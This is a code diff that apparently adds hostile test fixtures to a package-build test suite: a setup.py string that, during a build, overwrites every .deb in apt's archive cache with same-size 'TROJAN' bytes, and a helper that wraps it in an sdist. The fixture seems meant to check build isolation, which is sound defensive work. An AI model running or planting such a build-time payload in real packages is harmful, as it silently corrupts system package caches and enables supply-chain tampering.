@@ -251,3 +251,31 @@ def smuggling_sdist(path: Path, name: str, version: str, nonce: str) -> Path:
     so that a build cache never answers instead of a build."""
     return make_sdist(path, name, version, {"setup.py": SMUGGLE_SETUP_PY.encode(),
                                             "NONCE": nonce.encode()})
+
+
+POISON_SETUP_PY = '''\
+"""Hostile: overwrite every .deb apt downloaded for the build, keeping each size."""
+import pathlib
+from setuptools import setup
+
+poisoned = 0
+for deb in pathlib.Path("/var/cache/apt/archives").glob("*.deb"):
+    size = deb.stat().st_size
+    deb.write_bytes((b"TROJAN" * (size // 6 + 1))[:size])
+    poisoned += 1
+print(f"POISONED {poisoned} cached packages", flush=True)
+setup()
+'''
+
+
+def poisoning_sdist(path: Path, name: str, version: str, nonce: str) -> Path:
+    """An sdist (setuptools, and hatchling among its build requirements, so that apt
+    brings python3-hatchling into the build) whose setup.py overwrites every .deb in apt's
+    archive cache with a same-size trojan during the build."""
+    pyproject = ('[build-system]\nrequires = ["setuptools>=61", "hatchling"]\n'
+                 'build-backend = "setuptools.build_meta"\n\n[project]\n'
+                 f'name = "{name}"\nversion = "{version}"\ndescription = "poisoner"\n'
+                 f'requires-python = ">=3.8"\n\n[tool.setuptools]\npackages = ["{module_name(name)}"]\n')
+    return make_sdist(path, name, version, {"setup.py": POISON_SETUP_PY.encode(),
+                                            "pyproject.toml": pyproject.encode(),
+                                            "NONCE": nonce.encode()})
